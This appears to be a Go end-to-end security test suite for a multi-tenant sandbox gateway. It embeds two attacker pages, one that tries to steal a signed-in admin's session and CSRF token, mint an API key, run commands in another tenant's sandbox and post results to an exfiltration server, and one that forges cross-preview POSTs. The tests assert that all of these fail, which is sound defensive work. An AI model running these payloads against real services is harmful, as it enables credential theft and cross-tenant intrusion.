package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// A page a sandbox of tenant B serves, opened in Chromium by a signed-in
// tenant-A admin, must achieve nothing: no session read, no key minted for A, no command
// run in A's sandbox, nothing of A's sent out. It is run in both preview modes; in host
// mode the page, refused everywhere across origins, bounces itself to the path-mode URL
// of its own preview, which on the old gateway put it in the console's origin.

// attackPage is the attacker's page. It reports what it got to an exfiltration server the
// test runs on loopback, so a page that achieved nothing still proves it ran.
const attackPage = `<!doctype html><html><head><title>attack</title></head><body><p id=out>waiting</p>
<script>
const cfg = CONFIG;
const report = {where: location.host, origin: self.origin, steps: {}};
async function step(name, fn) {
  try { report.steps[name] = await fn(); } catch (e) { report.steps[name] = 'error: ' + e; }
}
async function call(method, url, headers, body) {
  const r = await fetch(url, {method, credentials: 'include', headers: Object.assign({'Content-Type': 'application/json'}, headers || {}), body: body ? JSON.stringify(body) : undefined});
  return {status: r.status, body: (await r.text()).slice(0, 2000)};
}
(async () => {
  const onGateway = location.host === new URL(cfg.gateway).host;
  const g = onGateway ? '' : cfg.gateway;
  let csrf = '';
  await step('session', async () => {
    const r = await call('GET', g + '/v1/session');
    try { csrf = JSON.parse(r.body).csrfToken || ''; } catch (e) {}
    return r;
  });
  const h = {'X-CSRF-Token': csrf};
  let key = '';
  await step('mint', async () => {
    const r = await call('POST', g + '/v1/tenants/' + cfg.tenant + '/keys', h, {role: 'tenant-admin'});
    try { key = JSON.parse(r.body).key || ''; } catch (e) {}
    return r;
  });
  for (const [name, path] of [['command-v1', '/v1/sandboxes/' + cfg.sandbox + '/proxy/44772/command'],
                              ['command', '/sandboxes/' + cfg.sandbox + '/proxy/44772/command'],
                              ['command-console', '/v1/console/sandboxes/' + cfg.sandbox + '/ports/44772/command']]) {
    await step(name, () => call('POST', g + path, h, {command: 'echo ' + name + ' >> /tmp/pwned'}));
  }
  if (key) {
    await step('command-with-key', () => call('POST', g + '/v1/sandboxes/' + cfg.sandbox + '/proxy/44772/command', {'OPEN-SANDBOX-API-KEY': key}, {command: 'echo with-key >> /tmp/pwned'}));
  }
  await step('pty-socket', () => new Promise((resolve) => {
    const base = onGateway ? 'ws://' + location.host : cfg.gateway.replace(/^http/, 'ws');
    const ws = new WebSocket(base + '/v1/console/sandboxes/' + cfg.sandbox + '/ports/44772/pty/x/ws');
    ws.onopen = () => { resolve('open'); ws.close(); };
    ws.onerror = () => resolve('refused');
  }));
  report.csrf = csrf;
  report.key = key;
  await fetch(cfg.exfil + '/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)});
  document.getElementById('out').textContent = 'done';
  if (!onGateway && cfg.bounce) location.href = cfg.bounce;
})();
</script></body></html>`

// exfilServer records what pages send it.
type exfilServer struct {
	*httptest.Server
	mu      sync.Mutex
	reports []map[string]any
	raw     []string
}

func startExfil(t *testing.T) *exfilServer {
	x := &exfilServer{}
	x.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		x.mu.Lock()
		defer x.mu.Unlock()
		x.raw = append(x.raw, r.URL.String()+" "+string(b))
		var m map[string]any
		if json.Unmarshal(b, &m) == nil {
			x.reports = append(x.reports, m)
		}
	}))
	t.Cleanup(x.Close)
	return x
}

func (x *exfilServer) got() ([]map[string]any, string) {
	x.mu.Lock()
	defer x.mu.Unlock()
	return append([]map[string]any(nil), x.reports...), strings.Join(x.raw, "\n")
}

// previewBrowser is a console browser whose resolver maps the preview domain to loopback,
// so that no name is looked up anywhere.
func previewBrowser(t *testing.T, base, previewDomain string) *consoleBrowser {
	t.Helper()
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatalf("chromium is not installed (make deps installs it): %v", err)
	}
	return newConsoleBrowser(t, chromium, base, chromedp.Flag("host-resolver-rules", "MAP *."+previewDomain+" 127.0.0.1"))
}

// navigate opens url in the tab as a user following a link would.
func (b *consoleBrowser) navigate(t *testing.T, url string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
	defer cancel()
	_ = chromedp.Do(ctx, chromedp.Navigate(url))
}

// startStaticServer serves dir of a sandbox on port with Python's http.server.
func startStaticServer(t *testing.T, g *gateway, id, dir string, port int) {
	t.Helper()
	body, _ := json.Marshal(map[string]any{"command": fmt.Sprintf("python3 -m http.server %d --directory %s", port, dir), "background": true})
	resp := g.agent(id).request("POST", "/command", bytes.NewReader(body), "application/json")
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	waitFor(t, 20*time.Second, func() bool {
		return g.do("GET", fmt.Sprintf("/sandboxes/%s/proxy/%d/", id, port), nil).Status == 200
	}, "the sandbox's static server to answer")
}

func TestPreviewOriginAttack(t *testing.T) {
	const previewDomain = "sandgate-previews.test"
	w := newPreviewTenants(t, previewDomain)
	g, gA, gB, sandboxA, sandboxB := w.g, w.gA, w.gB, w.sandboxA, w.sandboxB
	tenantA, adminA, gatewayOrigin, gwPort := w.tenantA, w.adminA, w.gatewayOrigin, w.gwPort
	startPreviewServer(t, gB, sandboxB) // the legitimate preview: HTML, JS, WebSocket on 8000
	const attackPort = 8100
	keysOfA := func() int {
		r := g.do("GET", "/v1/tenants/"+tenantA+"/keys", nil)
		if r.Status != 200 {
			t.Fatalf("list A's keys: %d %s", r.Status, r.Body)
		}
		return len(r.JSON(t)["items"].([]any))
	}
	keysBefore := keysOfA()
	pwned := func() string {
		return stdoutOf(gA.agent(sandboxA).run("cat /tmp/pwned 2>/dev/null; true"))
	}

	exfil := startExfil(t)
	// B's signed links (B may make them for its own sandbox) to the attack page in each
	// mode: the token is bound to sandbox and port, not to the mode.
	link := func(port int) (host, path string) {
		_, _, l := gB.endpoint(sandboxB, port, fmt.Sprintf("?expires=%d", time.Now().Add(10*time.Minute).Unix()))
		u, err := url.Parse(l)
		if err != nil || u.Query().Get("sandgate_token") == "" {
			t.Fatalf("signed link %q", l)
		}
		return "http://" + u.Host + u.RequestURI(),
			fmt.Sprintf("%s/sandboxes/%s/proxy/%d/?sandgate_token=%s", gatewayOrigin, sandboxB, port, url.QueryEscape(u.Query().Get("sandgate_token")))
	}
	hostLink, pathLink := link(attackPort)
	cfg, _ := json.Marshal(map[string]string{"gateway": gatewayOrigin, "tenant": tenantA, "sandbox": sandboxA, "exfil": exfil.URL, "bounce": pathLink})
	uploadFile(t, gB.agent(sandboxB), "/opt/attack/index.html", []byte(strings.Replace(attackPage, "CONFIG", string(cfg), 1)))
	startStaticServer(t, gB, sandboxB, "/opt/attack", attackPort)

	b := previewBrowser(t, gatewayOrigin, previewDomain)
	b.signIn(t, adminA, "tenant-admin")
	csrfA := b.evalAsync(t, `fetch("/v1/session").then(r => r.json()).then(s => s.csrfToken)`)
	if len(csrfA) < 16 {
		t.Fatalf("the victim's console has no session: %q", csrfA)
	}

	for _, mode := range []struct {
		name, url string
		reports   int // the host-mode page reports once from its host, once after the bounce
	}{
		{"path", pathLink, 1},
		{"host", hostLink, 2},
	} {
		t.Run(mode.name+" mode", func(t *testing.T) {
			before, _ := exfil.got()
			b.navigate(t, mode.url)
			var reports []map[string]any
			var raw string
			waitFor(t, 60*time.Second, func() bool {
				all, r := exfil.got()
				reports, raw = all[len(before):], r
				return len(reports) >= mode.reports
			}, fmt.Sprintf("%d report(s) of the attack page", mode.reports))
			for _, rep := range reports {
				t.Logf("the attack page at %v (origin %v) got: %v", rep["where"], rep["origin"], rep["steps"])
			}
			if strings.Contains(raw, csrfA) {
				t.Errorf("the victim's CSRF token was sent out")
			}
			if strings.Contains(raw, `"key":"sg`) || strings.Contains(raw, adminA) {
				t.Errorf("an API key was sent out")
			}
			for _, rep := range reports {
				steps, _ := rep["steps"].(map[string]any)
				for name, v := range steps {
					res, _ := v.(map[string]any)
					if st, _ := res["status"].(float64); st >= 200 && st < 300 {
						t.Errorf("the page at %v got %s through: %v", rep["where"], name, res)
					}
				}
				if steps["pty-socket"] == "open" {
					t.Errorf("the page at %v opened the PTY WebSocket", rep["where"])
				}
			}
			if n := keysOfA(); n != keysBefore {
				t.Errorf("tenant A has %d keys, had %d: one was minted", n, keysBefore)
			}
			if out := pwned(); out != "" {
				t.Errorf("a command ran in A's sandbox: %q", out)
			}
		})
	}

	// The console still works after all this, and a legitimate preview too.
	t.Run("the console is still signed in", func(t *testing.T) {
		b.open(t, "#/sandboxes")
		b.waitFor(t, 20*time.Second, "A's sandbox in the list", fmt.Sprintf(`document.body.innerText.includes(%q)`, sandboxA[:8]))
	})
	t.Run("a legitimate preview: HTML, JS and WebSocket in host mode", func(t *testing.T) {
		host, _ := link(previewPort)
		if !strings.Contains(host, "."+previewDomain+":"+gwPort) {
			t.Fatalf("host-mode link %q", host)
		}
		b.navigate(t, host)
		b.waitFor(t, 30*time.Second, "the page's WebSocket echo", `document.querySelector("#out").textContent === "echo:ping"`)
		if o := b.eval(t, `self.origin`); o != "http://"+strings.ToLower(sandboxB)+"-8000."+previewDomain+":"+gwPort {
			t.Fatalf("the preview's origin = %q", o)
		}
	})
	t.Run("a legitimate preview in path mode: HTML, JS and WebSocket as an opaque origin", func(t *testing.T) {
		_, path := link(previewPort)
		b.navigate(t, path)
		b.waitFor(t, 30*time.Second, "the page's WebSocket echo", `document.querySelector("#out").textContent === "echo:ping"`)
		if o := b.eval(t, `self.origin`); o != "null" {
			t.Fatalf("a path-mode preview runs in origin %q, want an opaque one", o)
		}
	})
}

// forgeryPage is a page of tenant B's preview that makes the browser of tenant A's user
// send changes to A's preview, the three ways a page may without CORS (a no-cors fetch,
// a beacon, a form posted into a frame), then reports to the exfiltration server.
const forgeryPage = `<!doctype html><html><head><title>forgery</title></head><body><p id=out>waiting</p>
<script>
const cfg = CONFIG;
const report = {where: location.host, origin: self.origin, steps: {}};
(async () => {
  try {
    await fetch(cfg.victim + '/note', {method: 'POST', mode: 'no-cors', credentials: 'include', body: 'forged-fetch'});
    report.steps.fetch = 'sent';
  } catch (e) { report.steps.fetch = 'error: ' + e; }
  try { report.steps.beacon = navigator.sendBeacon(cfg.victim + '/note', 'forged-beacon'); } catch (e) { report.steps.beacon = 'error: ' + e; }
  await new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = 'sink';
    document.body.appendChild(frame);
    frame.onload = () => { report.steps.form = 'loaded'; resolve(); };
    const form = document.createElement('form');
    form.method = 'POST'; form.action = cfg.victim + '/note'; form.target = 'sink';
    const field = document.createElement('input');
    field.name = 'x'; field.value = 'forged-form';
    form.appendChild(field);
    document.body.appendChild(form);
    form.submit();
    setTimeout(resolve, 10000);
  });
  await fetch(cfg.exfil + '/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)});
  document.getElementById('out').textContent = 'done';
})();
</script></body></html>`

// TestPreviewCrossPreviewForgery: host-mode previews share one
// registrable domain, so a page of tenant B's preview is same-site with tenant A's, and
// the browser of A's user attaches A's SameSite=Lax preview cookie to the requests B's
// page makes it send there. In Chromium, A's user opens A's preview (whose own page
// POSTs to it and is served), then B's page, which POSTs to A's preview by fetch,
// beacon and form: A's sandbox must record none of them. The gateway's answer (403
// ACCESS::ORIGIN_REFUSED) is checked without a browser, and so is what it does not
// concern: the API key and the access header, which no page makes a browser send.
func TestPreviewCrossPreviewForgery(t *testing.T) {
	const (
		previewDomain = "sandgate-previews.test"
		victimPort    = 8200
		forgeryPort   = 8100
	)
	w := newPreviewTenants(t, previewDomain)
	g, gA, gB, sandboxA, sandboxB := w.g, w.gA, w.gB, w.sandboxA, w.sandboxB
	adminA, gatewayOrigin, gwPort := w.adminA, w.gatewayOrigin, w.gwPort

	src, err := os.ReadFile(filepath.Join("testdata", "preview_victim.py"))
	if err != nil {
		t.Fatal(err)
	}
	uploadFile(t, gA.agent(sandboxA), "/opt/preview_victim.py", src)
	body, _ := json.Marshal(map[string]any{"command": fmt.Sprintf("python3 /opt/preview_victim.py %d", victimPort), "background": true})
	resp := gA.agent(sandboxA).request("POST", "/command", bytes.NewReader(body), "application/json")
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	waitFor(t, 20*time.Second, func() bool {
		return gA.do("GET", fmt.Sprintf("/sandboxes/%s/proxy/%d/", sandboxA, victimPort), nil).Status == 200
	}, "the victim's preview to answer")
	changes := func() string {
		return stdoutOf(gA.agent(sandboxA).run("cat /tmp/changes 2>/dev/null; true"))
	}
	clearChanges := func() { gA.agent(sandboxA).run("rm -f /tmp/changes") }

	victimHost := fmt.Sprintf("%s-%d.%s:%s", strings.ToLower(sandboxA), victimPort, previewDomain, gwPort)
	signedLink := func(g *gateway, id string, port int) string {
		_, _, l := g.endpoint(id, port, fmt.Sprintf("?expires=%d", time.Now().Add(10*time.Minute).Unix()))
		u, err := url.Parse(l)
		if err != nil || u.Query().Get("sandgate_token") == "" {
			t.Fatalf("signed link %q", l)
		}
		return "http://" + u.Host + u.RequestURI()
	}

	t.Run("the gateway refuses a cookie's change from another origin", func(t *testing.T) {
		defer clearChanges()
		host, resp := exchange(t, gA, sandboxA, victimPort, "/")
		if len(resp.Cookies()) != 1 {
			t.Fatalf("exchange set cookies %v", resp.Cookies())
		}
		cookie := resp.Cookies()[0].Name + "=" + resp.Cookies()[0].Value
		otherPreview := fmt.Sprintf("http://%s-%d.%s:%s", strings.ToLower(sandboxB), forgeryPort, previewDomain, gwPort)
		for _, tt := range []struct {
			name, method string
			headers      map[string]string
		}{
			{"a POST from another preview", "POST", map[string]string{"Origin": otherPreview, "Sec-Fetch-Site": "same-site"}},
			{"a POST from another preview, without Fetch Metadata", "POST", map[string]string{"Origin": otherPreview}},
			{"a PUT from another site", "PUT", map[string]string{"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"}},
			{"a DELETE from an opaque origin", "DELETE", map[string]string{"Origin": "null"}},
			{"an OPTIONS with the cookie from another preview", "OPTIONS", map[string]string{"Origin": otherPreview}},
			{"a POST from the console's origin", "POST", map[string]string{"Origin": gatewayOrigin}},
			{"a POST that says nothing of where it comes from", "POST", nil},
		} {
			t.Run(tt.name, func(t *testing.T) {
				h := map[string]string{"Cookie": cookie}
				for k, v := range tt.headers {
					h[k] = v
				}
				r := g.raw(tt.method, host, "/note", strings.NewReader("forged"), h)
				body := readAll(t, r)
				var e struct{ Code, Message string }
				if r.StatusCode != http.StatusForbidden || json.Unmarshal([]byte(body), &e) != nil || e.Code != "ACCESS::ORIGIN_REFUSED" || e.Message == "" {
					t.Fatalf("%s: %d %s, want 403 ACCESS::ORIGIN_REFUSED", tt.name, r.StatusCode, body)
				}
			})
		}
		if got := changes(); got != "" {
			t.Fatalf("A's preview recorded forged changes:\n%s", got)
		}
		for name, h := range map[string]map[string]string{
			"the preview's own Origin":    {"Cookie": cookie, "Origin": "http://" + host},
			"Sec-Fetch-Site: same-origin": {"Cookie": cookie, "Sec-Fetch-Site": "same-origin"},
		} {
			if r := g.raw("POST", host, "/note", strings.NewReader("own"), h); r.StatusCode != 200 {
				t.Errorf("a POST with the cookie and %s: %d %s", name, r.StatusCode, readAll(t, r))
			}
		}
		// The API key and the access header are no ambient credential: the Origin is not
		// theirs to prove.
		_, access, _ := gA.endpoint(sandboxA, victimPort, "")
		for name, h := range map[string]map[string]string{
			"the owner's API key": {"OPEN-SANDBOX-API-KEY": adminA, "Origin": otherPreview},
			"the access header":   {"X-Sandgate-Access-Token": access["X-Sandgate-Access-Token"], "Origin": otherPreview},
		} {
			if r := g.raw("POST", host, "/note", strings.NewReader("header"), h); r.StatusCode != 200 {
				t.Errorf("a POST with %s from another origin: %d %s", name, r.StatusCode, readAll(t, r))
			}
		}
	})

	t.Run("in Chromium, B's preview page forges nothing in A's", func(t *testing.T) {
		clearChanges()
		exfil := startExfil(t)
		cfg, _ := json.Marshal(map[string]string{"victim": "http://" + victimHost, "exfil": exfil.URL})
		uploadFile(t, gB.agent(sandboxB), "/opt/forgery/index.html", []byte(strings.Replace(forgeryPage, "CONFIG", string(cfg), 1)))
		startStaticServer(t, gB, sandboxB, "/opt/forgery", forgeryPort)

		b := previewBrowser(t, gatewayOrigin, previewDomain)
		// A's user opens A's preview: the link leaves the cookie, and A's own page changes
		// something in it, as it may.
		b.navigate(t, signedLink(gA, sandboxA, victimPort))
		b.waitFor(t, 30*time.Second, "the victim page's own POST", `document.querySelector("#out").textContent.startsWith("own")`)
		if out := b.eval(t, `document.querySelector("#out").textContent`); out != "own:200" {
			t.Fatalf("A's own page could not POST to its preview: %s", out)
		}
		if o := b.eval(t, `self.origin`); o != "http://"+victimHost {
			t.Fatalf("the victim page's origin = %q, want http://%s", o, victimHost)
		}
		if got := changes(); strings.TrimSpace(got) != "POST own-page" {
			t.Fatalf("A's preview recorded %q, want its own page's POST", got)
		}

		// Then B's page, in the same browser.
		b.navigate(t, signedLink(gB, sandboxB, forgeryPort))
		var reports []map[string]any
		waitFor(t, 60*time.Second, func() bool {
			reports, _ = exfil.got()
			return len(reports) >= 1
		}, "the forgery page's report")
		t.Logf("the forgery page at %v (origin %v) did: %v", reports[0]["where"], reports[0]["origin"], reports[0]["steps"])
		time.Sleep(2 * time.Second) // a beacon may leave after the report
		if got := changes(); strings.TrimSpace(got) != "POST own-page" {
			t.Errorf("B's page forged changes in A's preview; A's sandbox recorded:\n%s", got)
		}
	})
}

// previewTenants is a gateway serving host-mode previews under a preview domain, with a
// victim tenant A and an attacker tenant B, each holding a tenant-admin key and a sandbox.
type previewTenants struct {
	g, gA, gB             *gateway
	tenantA, adminA       string
	sandboxA, sandboxB    string
	gatewayOrigin, gwPort string
}

func newPreviewTenants(t *testing.T, previewDomain string) previewTenants {
	t.Helper()
	e := newEnv(t, startRedis(t), "SANDGATE_PREVIEW_DOMAIN="+previewDomain)
	g := e.startGateway()
	_, gwPort, _ := strings.Cut(g.Addr, ":")
	tenantA, tenantB := g.createTenant("victim", nil), g.createTenant("attacker", nil)
	_, adminA := g.issueKey(tenantA, "tenant-admin")
	_, adminB := g.issueKey(tenantB, "tenant-admin")
	gA, gB := g.asKey(adminA), g.asKey(adminB)
	return previewTenants{g: g, gA: gA, gB: gB, tenantA: tenantA, adminA: adminA,
		sandboxA: gA.createSandbox(map[string]any{}), sandboxB: gB.createSandbox(map[string]any{}),
		gatewayOrigin: "http://" + g.Addr, gwPort: gwPort}
}
